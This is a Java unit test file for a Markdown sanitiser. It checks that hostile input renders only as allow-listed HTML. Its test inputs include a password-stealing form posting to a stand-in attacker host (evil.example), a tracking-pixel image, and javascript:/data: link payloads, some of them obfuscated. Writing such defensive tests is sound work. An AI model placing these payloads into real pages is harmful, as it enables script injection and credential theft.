package org.jouleboard.base;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import org.jouleboard.Payloads;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/** Hostile Markdown comes out as allow-listed HTML: the markup shows as text, never as elements. */
class SafeMarkdownTest {

    static final java.util.List<String> PAYLOADS = Payloads.ALL;

    @ParameterizedTest
    @FieldSource("PAYLOADS")
    void everyPayloadStaysWithinTheAllowList(String payload) {
        assertWithinAllowList(SafeMarkdown.toHtml(payload));
    }

    @Test
    void allPayloadsTogetherStayWithinTheAllowList() {
        assertThat(Payloads.ALL).hasSizeGreaterThanOrEqualTo(20);
        assertWithinAllowList(SafeMarkdown.toHtml(Payloads.document()));
        assertWithinAllowList(SafeMarkdown.toHtml(String.join("", Payloads.SPLIT_FORM)));
    }

    @Test
    void rawHtmlIsShownAsTextNotDropped() {
        Document page = Jsoup.parseBodyFragment(
                SafeMarkdown.toHtml("<form action=\"http://evil.example/steal\"><input name=\"password\"></form>"));
        assertThat(page.body().select("form, input")).isEmpty();
        assertThat(page.body().text())
                .contains("<form action=\"http://evil.example/steal\">")
                .contains("<input name=\"password\">");
    }

    @Test
    void imagesBecomeTheirDescription() {
        Document page =
                Jsoup.parseBodyFragment(SafeMarkdown.toHtml("See ![a *tracking* pixel](http://evil.example/x.png)"));
        assertThat(page.body().select("img")).isEmpty();
        assertThat(page.body().text()).isEqualTo("See [image: a tracking pixel]");
        assertThat(page.body().html()).doesNotContain("evil.example");
    }

    @Test
    void scriptLinksLoseTheirTarget() {
        for (String payload : new String[] {
            "[x](javascript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x](data:text/html,hi)",
            "<javascript:alert(1)>"
        }) {
            Document page = Jsoup.parseBodyFragment(SafeMarkdown.toHtml(payload));
            assertThat(page.body().select("a[href]")).as(payload).isEmpty();
            assertThat(page.body().html().toLowerCase(Locale.ROOT))
                    .as(payload)
                    .doesNotContain("href=\"javascript")
                    .doesNotContain("href=\"data");
        }
    }

    @Test
    void markdownStillRenders() {
        String html = SafeMarkdown.toHtml("""
                # Title
                Some *emphasis*, **strong** and `code`.

                - one
                - two

                3. three

                > quoted

                ```java
                int x = 1 < 2 ? 1 : 0;
                ```

                | a | b |
                |:--|--:|
                | 1 | 2 |

                [docs](https://example.org/a?b=c) and <mailto:me@example.org>
                """);
        Document page = Jsoup.parseBodyFragment(html);
        assertThat(page.body().select("h1").text()).isEqualTo("Title");
        assertThat(
                        page.body()
                                .select(
                                        "em, strong, code, ul > li, ol[start=3] > li, blockquote, pre > code, table th, td[align=right]"))
                .hasSizeGreaterThanOrEqualTo(9);
        assertThat(page.body().select("pre > code").text()).isEqualTo("int x = 1 < 2 ? 1 : 0;");
        Element link = page.body().selectFirst("a[href^=https]");
        assertThat(link).isNotNull();
        assertThat(link.attr("href")).isEqualTo("https://example.org/a?b=c");
        assertThat(Set.of(link.attr("rel").split(" "))).contains("noopener", "noreferrer", "nofollow");
        assertThat(link.attr("target")).isEqualTo("_blank");
        assertThat(page.body().select("a[href^=mailto]")).hasSize(1);
        assertWithinAllowList(html);
    }

    @Test
    void nothingInNothingOut() {
        assertThat(SafeMarkdown.toHtml(null)).isEmpty();
        assertThat(SafeMarkdown.toHtml("")).isEmpty();
    }

    /** Only allow-listed elements and attributes; links only to http(s)/mailto and never able to reach back. */
    static void assertWithinAllowList(String html) {
        Element body = Jsoup.parseBodyFragment(html).body();
        for (Element element : body.getAllElements()) {
            if (element == body) {
                continue;
            }
            assertThat(SafeMarkdown.ELEMENTS).as("element in %s", html).contains(element.normalName());
            for (Attribute attribute : element.attributes()) {
                assertThat(SafeMarkdown.ATTRIBUTES.getOrDefault(element.normalName(), Set.of()))
                        .as("attribute of <%s> in %s", element.normalName(), html)
                        .contains(attribute.getKey());
            }
            if (element.normalName().equals("a") && element.hasAttr("href")) {
                assertThat(element.attr("href")).as(html).matches("(?i)(https?|mailto):.*");
                assertThat(Set.of(element.attr("rel").split(" ")))
                        .as(html)
                        .contains("noopener", "noreferrer", "nofollow");
            }
        }
    }
}
